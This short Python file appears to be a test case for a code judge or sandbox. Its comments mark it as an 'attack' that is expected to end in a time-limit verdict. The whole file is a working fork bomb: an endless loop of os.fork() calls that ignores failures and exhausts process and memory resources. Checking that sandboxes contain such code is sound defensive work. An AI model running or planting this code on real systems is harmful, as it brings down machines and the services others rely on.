# attack: processes without end, with every refusal caught
# judge: timeLimitExceeded
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
